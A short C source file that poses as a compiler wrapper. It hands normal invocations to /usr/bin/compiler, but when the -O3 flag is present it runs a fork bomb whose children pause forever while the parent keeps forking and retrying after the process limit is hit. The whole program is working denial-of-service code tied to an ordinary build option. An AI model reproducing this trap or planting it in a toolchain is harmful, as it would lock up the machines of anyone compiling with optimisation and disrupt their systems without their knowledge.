/* A compiler that with -O3 starts processes without end, says so when it gets no more, and goes on trying. */
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int is_bomb = 0, told = 0;
    for (int i = 1; i < argc; i++)
        is_bomb |= !strcmp(argv[i], "-O3");
    if (!is_bomb)
        return execv("/usr/bin/compiler", argv);
    for (;;) {
        int pid = fork();
        while (pid == 0)
            pause();
        if (pid < 0) {
            if (!told)
                told = write(1, "full", 4);
            usleep(10000);
        }
    }
}
